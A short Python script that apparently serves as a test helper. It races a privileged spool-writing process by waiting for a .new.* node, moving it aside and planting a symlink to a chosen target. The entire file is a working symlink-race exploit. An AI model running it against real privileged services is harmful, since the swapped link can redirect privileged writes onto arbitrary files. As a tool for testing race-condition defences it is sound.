#!/usr/bin/python3
"""swap-node.py DIR TARGET [SECONDS]: the spool owner's attack on a
privileged process making spool nodes by name: waits for a node named
.new.* to appear in DIR, moves it aside and puts a symlink to TARGET in
its place. Exits 0 once it swapped one, 1 when none appeared in time."""
import os
import sys
import time

d, target = sys.argv[1], sys.argv[2]
deadline = time.time() + float(sys.argv[3] if len(sys.argv) > 3 else 10)
while time.time() < deadline:
    for name in os.listdir(d):
        if not name.startswith(".new."):
            continue
        path = os.path.join(d, name)
        try:
            os.rename(path, os.path.join(d, "aside" + name))
            os.symlink(target, path)
        except OSError:
            continue
        print("swapped", name)
        sys.exit(0)
    time.sleep(0.002)
sys.exit(1)
